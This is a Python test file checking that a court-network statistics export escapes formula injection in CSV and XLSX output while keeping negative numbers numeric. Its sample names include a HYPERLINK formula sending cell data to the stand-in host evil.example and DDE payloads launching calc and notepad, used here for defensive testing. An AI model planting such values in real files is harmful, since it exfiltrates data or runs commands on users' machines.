"""Statistics exports carry user-typed names (shared courts, areas): a name that looks like a
spreadsheet formula must reach the analyst as text, never as a formula (CSV/formula injection),
while numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

from tests.api.world import ok_json
from tests.court_network.test_stats import seed

COURT_NAMES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"详情")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "#N/A",
]
AREA_NAMES = ["=1+1", "-1", "@A1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


async def _named_network(h2: Any) -> Any:
    h, n = h2
    # Seeded 2026 data, exported for 2027: every figure falls to 0, so changes are negative.
    await seed(h, n)
    for name in AREA_NAMES:
        await ok_json(await n.admin.post("/api/network/areas", json={"name": name}), 201)
    for name in COURT_NAMES:
        await ok_json(
            await n.admin.post(
                "/api/network/shared-courts", json={"name": name, "kind": "village"}
            ),
            201,
        )
    return n


async def test_csv_escapes_formula_text_and_keeps_negative_numbers(h2: Any) -> None:
    n = await _named_network(h2)
    resp = await n.clerk.get("/api/network/stats.csv?year=2027")
    assert resp.status == 200
    rows = list(csv.reader(io.StringIO((await resp.read()).decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    labels = {r[2] for r in body}
    for name in COURT_NAMES + AREA_NAMES:
        if name.startswith(TRIGGERS):
            assert "'" + name in labels, name
            assert name not in labels, name
        else:
            assert name in labels, name
    for r in body:
        for col, cell in zip(header, r, strict=True):
            if col in ("value", "previous", "change", "change_ratio") or not cell:
                continue
            # the no-shared-court row's key is a lone "-": nothing to evaluate
            assert cell == "-" or not cell.startswith(TRIGGERS), (col, cell)
    summary = {r[3]: r for r in body if r[0] == "summary"}
    disputes = summary["disputes"]
    assert disputes[4] == "0" and int(disputes[5]) > 0
    # a negative number is data, not a formula: it stays a plain, unescaped number
    assert disputes[6] == str(-int(disputes[5]))
    assert float(summary["disputes"][7]) == -1.0


async def test_xlsx_writes_formula_text_as_strings(h2: Any) -> None:
    n = await _named_network(h2)
    resp = await n.clerk.get("/api/network/stats.xlsx?year=2027")
    assert resp.status == 200
    data = await resp.read()
    # No formula anywhere in the saved file, whatever openpyxl makes of it on reading.
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
                assert 't="e"' not in xml, name
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    labels: dict[str, Any] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
            labels[str(row[2].value)] = row[2]
    for name in COURT_NAMES + AREA_NAMES:
        cell = labels[name]  # the exact text, no visible quote added
        assert cell.data_type == "s", name
        # Excel keeps a quote-prefixed cell text even when someone edits it later
        assert cell.quotePrefix == name.startswith(TRIGGERS), name
    summary = {r[3]: r for r in wb["summary"].iter_rows(min_row=2, values_only=True)}
    value, previous, change = summary["disputes"][4:7]
    assert value == 0 and isinstance(previous, int) and previous > 0
    assert change == -previous  # negative numbers stay numbers


async def test_xlsx_export_survives_control_characters_in_names(h2: Any) -> None:
    _, n = h2
    await ok_json(await n.admin.post("/api/network/areas", json={"name": "东\x01乡"}), 201)
    resp = await n.clerk.get("/api/network/stats.xlsx?year=2026")
    assert resp.status == 200
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(await resp.read()))
    assert "东乡" in {r[2] for r in wb["by_area"].iter_rows(min_row=2, values_only=True)}
